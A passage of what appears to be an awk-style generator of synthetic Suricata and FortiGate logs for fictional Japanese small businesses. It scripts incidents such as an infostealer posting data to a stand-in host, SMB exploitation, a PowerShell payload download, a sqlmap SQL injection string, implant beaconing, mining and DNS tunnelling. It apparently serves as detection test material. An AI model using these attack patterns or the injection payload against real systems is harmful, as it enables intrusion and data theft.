	begin("butsuryu", "株式会社ほたるまち物流", "102-0058", "運輸", 65, "大阪市福島区", "2026-10-01", "", "suricata")
	suricata(7, "192.168.5", "eth1", 0, 60)
	context(600); noise(350, "192.168.5.10"); policy(45)
	stealer("192.168.5.44", at(20, 13, 22), 60)
	for (i = 0; i < 70; i++)
		eve_alert("smb_scan", at(22, 1, 10) + i * 4, "internal", "192.168.5.44", high_port(), "192.168.5." (60 + i), 445, "TCP", "", "")
	for (i = 0; i < 12; i++)
		eve_alert("smb_exploit", at(22, 1, 31) + i * 47, "internal", "192.168.5.44", high_port(), "192.168.5." pick("60|61|77"), 445, "TCP", "smb", "")
	for (i = 0; i < 4; i++)
		eve_alert("smb_service", at(22, 1, 52) + i * 95, "internal", "192.168.5.44", high_port(), "192.168.5.77", 445, "TCP", "smb", "")
}
# The same stealer at three members within two days: names, the certificate of its server, what it sends away.
function stealer(host, start, n,    i, t) {
	for (i = 0; i < n; i++) {
		t = start + i * 240 + chance(60)
		if (i % 3 == 0) eve_alert("stealer_dns", t, "outbound", host, high_port(), "192.0.2.53", 53, "UDP", "dns", ",\"dns\":" dns_in_alert("cdn-invoice.example"))
		else if (i % 3 == 1) eve_alert("stealer_cert", t, "outbound", host, high_port(), "203.0.113.66", 443, "TCP", "tls", ",\"tls\":" tls("cdn-invoice.example"), 1)
		else eve_alert("stealer_post", t, "outbound", host, high_port(), "203.0.113.66", 80, "TCP", "http", ",\"http\":" \
			http("cdn-invoice.example", "/gate/u.php", "Mozilla/5.0 (Windows NT 10.0)", "POST", 200, between(20000, 400000)))
	}
}

# A small clinic with an old Suricata 6, which tells neither the direction nor who opened the session. On the 21st
# somebody is talked into pasting a command: PowerShell fetches from a bare address, and the stealer is there.
function clinic(    t) {
	begin("clinic", "なにわ橋クリニック", "102-0311", "医療", 12, "大阪市北区", "2026-10-01", "", "suricata")
	suricata(6, "192.168.20", "eth0", 0, 12)
	context(380); noise(180, "192.168.20.5"); policy(12)
	t = at(21, 10, 3)
	put("eve.json", t, 0, eve_head(t, "http", "192.168.20.31", high_port(), "203.0.113.66", 80, "TCP") ",\"tx_id\":0,\"http\":" \
		http("203.0.113.66", "/v", "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4894", "GET", 200, 91244) "}")
	found("outbound", "web")
	stealer("192.168.20.31", at(21, 10, 5), 24)
}

# A restaurant, not a member: nothing but the usual rain.
function shokudo() {
	begin("shokudo", "有限会社なぎさ食堂", "", "飲食", 8, "堺市堺区", "2026-10-05", "", "suricata")
	suricata(7, "192.168.40", "eth0", 0, 6)
	context(160); noise(60, "192.168.40.2")
}

# An IT firm with servers of its own, Suricata 8 in line, some IPv6. Its log was rotated by copying on the 18th and a
# burst stands in it twice: twice is what the device said, so twice is what counts. On the 27th its wiki is broken into
# and hours later calls a command server: attacked, then speaking out.
function tsumugi(    i, t, a, lines) {
	begin("tsumugi", "株式会社つむぎITサービス", "103-0029", "IT", 35, "吹田市", "2026-10-01", "", "suricata")
	suricata(8, "10.20.30", "ens18", 1, 50)
	context(700); noise(820, "10.20.30.10"); policy(60)
	for (i = 0; i < 260; i++) {
		blocked = i % 4 != 0
		eve_alert("wp", any_time(), "inbound", i % 5 ? outside() : "2001:db8:bad::" between(1, 40), high_port(), i % 5 ? "10.20.30.11" : "fd00:20:30::11", 80, "TCP", "http", ",\"http\":" \
			http("blog.tsumugi.example", "/xmlrpc.php", "Mozilla/5.0", "POST", 403, 410))
	}
	for (i = 0; i < 90; i++) {
		blocked = 1
		eve_alert("sqli", at(25, 4, 0) + i * 31, "inbound", "192.0.2.144", high_port(), "10.20.30.12", 443, "TCP", "http", ",\"http\":" \
			http("shop.tsumugi.example", "/item?id=" i "%20UNION%20SELECT%20*%20FROM%20users", "sqlmap/1.8", "GET", 403, 0))
	}
	blocked = 0
	for (i = 0; i < 40; i++) {
		t = at(18, 23, 58) + i
		eve_alert("ssh", t, "inbound", "203.0.113.201", high_port(), "10.20.30.10", 22, "TCP", "ssh", "")
		put("eve.json", t, micro, last_line)
		count("alert", "inbound", "ips", 1, 0)
	}
	stealer("10.20.30.118", at(21, 16, 40), 18)
	for (i = 0; i < 5; i++)
		eve_alert("wiki", at(27, 2, 14) + i * 21, "inbound", "198.51.100.201", high_port(), "10.20.30.13", 8090, "TCP", "http", ",\"http\":" \
			http("wiki.tsumugi.example", "/template/aui/text-inline.vm", "Mozilla/5.0", "POST", 200, 812))
	for (i = 0; i < 9; i++)
		eve_alert("implant", at(27, 5, 40) + i * 900 + chance(40), "outbound", "10.20.30.13", high_port(), "203.0.113.171", 8443, "TCP", "tls", ",\"tls\":" tls("status-cdn.example"))
}

# A builder, not a member; FortiGate behind a syslog relay. On the 13th somebody guesses passwords at its VPN.
function kensetsu(    i) {
	begin("kensetsu", "生駒山手建設株式会社", "", "建設", 55, "東大阪市", "2026-10-01", "", "fortigate")
	fortigate("FGT80F-IKOMA", "FGT80FTK21990002", "192.168.60", 45, 3164)
	forti_traffic(300); forti_noise(130, "192.168.60.10")
	for (i = 0; i < 9; i++)
		forti_virus(office_hours(), client(), high_port(), outside(), 80, "HTTP", "incoming", "drawing_" i ".zip", "W32/Injector.KGR!tr", " url=\"http://files.example.org/drawing.zip\"")
	for (i = 0; i < 40; i++)
		forti_vpn(at(13, 3, 20) + i * 9, "ssl-login-fail", "203.0.113.88", pick("admin|test|vpn|user"))
	for (i = 0; i < 22; i++)
		forti_web(office_hours(), client(), pick("free-movie.example|crack-tools.example"), 26, "Malicious Websites")
}

# A shop in Amagasaki. From the 11th a till computer mines coins, at night only. On the 28th an office computer sends data
# away in the names that it looks up.
function hyakka(    i, night, t) {
	begin("hyakka", "株式会社あさがお百貨", "104-0007", "小売", 90, "尼崎市", "2026-10-01", "", "suricata")
	suricata(7, "192.168.30", "eth0", 0, 70)
	context(520); noise(260, "192.168.30.9"); policy(40)
	for (night = 11; night <= 24; night++)
		for (i = 0; i < 22; i++) {
			t = at(night, 22, 0) + i * 1200 + chance(300)
			if (i % 11 == 0) eve_alert("miner_dns", t, "outbound", "192.168.30.80", high_port(), "192.0.2.53", 53, "UDP", "dns", ",\"dns\":" dns_in_alert("pool.coin.example"))
			else eve_alert("miner", t, "outbound", "192.168.30.80", high_port(), "203.0.113.200", 3333, "TCP", "", "")
		}
	dns_tunnel("192.168.30.45", at(28, 19, 31), 300, "ns7.example")
	for (i = 0; i < 30; i++)
		eve_alert("rdp", any_time(), "inbound", outside(), high_port(), "192.168.30.9", between(3390, 3400), "TCP", "rdp", "")
}

# A printer in Kobe, not a member: monitored, and nothing happened.
function insatsu() {
	begin("insatsu", "六甲かもめ印刷株式会社", "", "製造", 19, "神戸市中央区", "2026-10-12", "", "suricata")
	suricata(6, "192.168.70", "eth0", 0, 15)
	context(120)
}

# A tea maker in Uji who joined in the middle of the month; FortiGate with RFC 5424 headers.
function seicha(    i) {
	begin("seicha", "宇治みどり製茶株式会社", "105-0081", "製造", 23, "宇治市", "2026-10-15", "", "fortigate")
	fortigate("FGT40F-UJI", "FGT40FTK22990003", "192.168.80", 18, 5424)
	forti_traffic(120); forti_noise(60, "192.168.80.4")
	for (i = 0; i < 3; i++)
		forti_virus(office_hours(), client(), high_port(), outside(), 80, "HTTP", "incoming", "catalog.pdf.exe", "W32/Kryptik.KGR!tr", " url=\"http://catalog.example.net/catalog.pdf.exe\"")
	for (i = 0; i < 6; i++)
		forti_web(office_hours(), client(), "login-mail.example", 61, "Phishing")
}
